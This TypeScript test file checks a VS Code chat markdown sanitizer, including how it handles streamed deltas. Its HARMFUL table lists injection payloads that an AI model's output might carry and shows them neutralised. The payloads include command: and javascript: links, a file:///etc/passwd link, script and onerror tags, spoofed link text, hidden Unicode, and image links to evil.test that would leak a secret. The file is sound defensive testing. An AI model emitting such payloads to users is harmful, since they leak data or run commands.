import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { safeMarkdown, SafeMarkdown } from '../../../src/vscode/markdown/safe-markdown.ts';
import { asText, type SafePart } from '../../../src/vscode/markdown/safe-part.ts';
import { fc, propertyOptions } from '../../support/properties.ts';

const FILES = new Set(['src/a.ts', 'my file.ts']);
const isFile = (path: string): boolean => FILES.has(path);

function show(parts: readonly SafePart[]): string {
  return parts
    .map((part) =>
      part.kind === 'markdown'
        ? part.text
        : `⟦${part.path}${part.startLine === undefined ? '' : ` ${part.startLine}-${part.endLine ?? ''}`}⟧`,
    )
    .join('');
}

function render(text: string): string {
  return show(safeMarkdown(text, isFile));
}

/** What a model may send, and what is shown instead. */
const HARMFUL: readonly (readonly [string, string])[] = [
  ['[Run](command:workbench.action.terminal.new)', 'Run (command: link, not followed)'],
  ['[Run](COMMAND:x "title")', 'Run (COMMAND: link, not followed)'],
  ['[Open](vscode://ext/x)', 'Open (vscode: link, not followed)'],
  ['[x](javascript:alert(1))', 'x (javascript: link, not followed)'],
  ['[x](data:text/html,y)', 'x (data: link, not followed)'],
  ['[x](file:///etc/passwd)', 'x (file: link, not followed)'],
  ['[x](<command:a b>)', 'x (command: link, not followed)'],
  ['![logo](http://evil.test/p.png?d=secret)', '\\[image: logo, not loaded from evil.test\\]'],
  ['![](//evil.test/x)', '\\[image, not loaded from //evil.test/x\\]'],
  ['[![alt](http://evil.test/i.png)](http://evil.test)', '[alt (evil.test)](http://evil.test/)'],
  ['!http://evil.test/x', '\\![http\\://evil.test/x](http://evil.test/x)'],
  ['<img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)>'],
  ['<script>alert(1)</script>', '&lt;script>alert(1)&lt;/script>'],
  ['<http://evil.test>', '[http\\://evil.test](http://evil.test/)'],
  ['[ref]\n\n[ref]: http://evil.test', '\\[ref]\n\n\\[ref]: [http\\://evil.test](http://evil.test/)'],
  [
    '![ref][1]\n\n[1]: http://evil.test/i.png',
    '\\!\\[ref]\\[1]\n\n\\[1]: [http\\://evil.test/i.png](http://evil.test/i.png)',
  ],
  ['[https://good.test](https://evil.test/)', '[https\\://good.test (evil.test)](https://evil.test/)'],
  ['[good](https://good.test@evil.test/)', '[good (evil.test)](https://good.test@evil.test/)'],
  ['[x](https://good.test&#46;evil.test/)', '[x (good.test&)](https://good.test&/#46;evil.test/)'],
  ['[x](http://_vscodecontentref_/0)', 'x (http: link, not followed)'],
  ['www.evil.test`![x](http://evil.test/y)`', 'www\\.evil.test`![x](http://evil.test/y)`'],
  ['| `a | ![x](http://evil.test) b` |', '| \\`a | \\[image: x, not loaded from evil.test\\] b\\` |'],
  ['$a `b$ ![x](http://evil.test)`', '\\$a `b$ ![x](http://evil.test)`'],
  ['costs $5 or $6', 'costs \\$5 or \\$6'],
  ['- ```\n![x](http://evil.test)', '```\n![x](http://evil.test)\n```'],
  ['> ```\n> code\n![x](http://evil.test)', '```\ncode\n```\n\\[image: x, not loaded from evil.test\\]'],
  ['```vscode-extensions\nevil.ext\n```', '```\nevil.ext\n```'],
  [
    '```\n<vscode_codeblock_uri>file:///x</vscode_codeblock_uri>\n```',
    '```\n< vscode_codeblock_uri>file:///x< /vscode_codeblock_uri>\n```',
  ],
  ['read\u202eme\u{e0041}\u200b', 'readme'],
];

/** What a model writes all the time. */
const HARMLESS: readonly (readonly [string, string])[] = [
  [
    '# Title\n\n**bold** *it* `code`\n\n- [ ] one\n- [x] two\n',
    '# Title\n\n**bold** *it* `code`\n\n- [ ] one\n- [x] two\n',
  ],
  ['| a | b |\n|---|---|\n| 1 | 2 |', '| a | b |\n|---|---|\n| 1 | 2 |'],
  ['1. one\n   ```ts\n   const a = [1];\n   ```\n2. two', '1. one\n\n```ts\nconst a = [1];\n```\n2. two'],
  ['```js\nif (a < b) return `x`;', '```js\nif (a < b) return `x`;\n```'],
  ['~~~\n```\n~~~\nx', '~~~\n```\n~~~\nx'],
  ['``a ` b``', '``a ` b``'.replace('``a', '`` a').replace('b``', 'b ``')],
  ['see [docs](https://a.test/b_c?x=1&y=2).', 'see [docs (a.test)](https://a.test/b_c?x=1&y=2).'],
  ['see src/a.ts#L3-L9, `src/a.ts:4` and (src/a.ts:5-7).', 'see ⟦src/a.ts 3-9⟧, ⟦src/a.ts 4-4⟧ and (⟦src/a.ts 5-7⟧).'],
  [
    '[src/a.ts](src/a.ts#L2) [the parser](./src/a.ts#L2) [x](my%20file.ts)',
    '⟦src/a.ts 2-2⟧ the parser ⟦src/a.ts 2-2⟧ x ⟦my file.ts⟧',
  ],
  ['no/such.ts#L3 `no/such.ts:4` [n](no/such.ts)', 'no/such.ts#L3 `no/such.ts:4` n (no/such.ts)'],
  ['a < b && c > d, [1], x[0], done!', 'a &lt; b && c > d, \\[1], x\\[0], done!'],
  ['日本語のテキスト 👩‍💻', '日本語のテキスト 👩‍💻'],
];

describe('text of a model in the chat', () => {
  for (const [sent, shown] of HARMFUL)
    it(`is harmless: ${JSON.stringify(sent)}`, () => assert.equal(render(sent), shown));
  for (const [sent, shown] of HARMLESS)
    it(`keeps its form: ${JSON.stringify(sent)}`, () => assert.equal(render(sent), shown));

  it('comes out the same however it was cut into deltas, with no unescaped image, HTML, reference or foreign link in it', () => {
    const atom = fc.constantFrom(
      ...HARMFUL.map(([sent]) => sent),
      ...HARMLESS.map(([sent]) => sent),
      '`',
      '``',
      '```',
      '[',
      '](',
      '![',
      ')',
      '<',
      '>',
      '- ',
      '> ',
      '\n',
      '\n\n',
      '    ',
      '\\',
      '|',
      '$',
      'a',
      ' ',
      '\r\n',
    );
    const options = propertyOptions('chunks of markdown');
    fc.assert(
      fc.property(
        fc.array(atom, { maxLength: 14 }),
        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 20 }),
        (atoms, sizes) => {
          const text = atoms.join('');
          const safe = new SafeMarkdown(isFile);
          const parts: SafePart[] = [];
          for (let from = 0, turn = 0; from < text.length; turn++) {
            const size = sizes[turn % sizes.length] ?? 1;
            parts.push(...safe.push(text.slice(from, from + size)));
            from += size;
          }
          parts.push(...safe.end());
          const whole = render(text);
          assert.equal(show(parts), whole);
          assert.doesNotMatch(withoutCode(whole), /!\[|<[a-z!/?]|\[[^\]]*\](?:\((?!https?:\/\/)|:)/i);
        },
      ),
      options,
    );
  });

  it('streams by words: what is certain is shown before the line ends', () => {
    const safe = new SafeMarkdown(isFile);
    const shown = ['Hello ', 'wor', 'ld [a](', 'http://a.test)', ' and `co', 'de` and ', 'src/a.ts#L', '3 end'].map(
      (delta) => show(safe.push(delta)),
    );
    assert.deepEqual(
      [...shown, show(safe.end())],
      ['Hello ', '', 'world ', '[a (a.test)](http://a.test/)', ' and ', '`code` and ', '', '⟦src/a.ts 3-3⟧ ', 'end'],
    );
  });

  it('as a title is only text', () => {
    assert.equal(
      asText('[x](command:y) **b** <i> $1$ !\n# h'),
      '\\[x\\](command:y) \\*\\*b\\*\\* \\<i> \\$1\\$ \\! # h',
    );
  });
});

/** Without escaped characters, code spans and fences: readers of markdown show those as they are. */
function withoutCode(markdown: string): string {
  const lines: string[] = [];
  let mark: string | undefined;
  for (const line of markdown.split('\n')) {
    const fence = /^(`{3,}|~{3,})/.exec(line)?.[1];
    if (mark === undefined) {
      if (fence === undefined) lines.push(line.replaceAll(/\\.|(`+)(?!`).*?(?<!`)\1(?!`)/g, ''));
      mark = fence;
    } else if (fence?.startsWith(mark) === true && /^[`~]+$/.test(line)) mark = undefined;
  }
  return lines.join('\n');
}
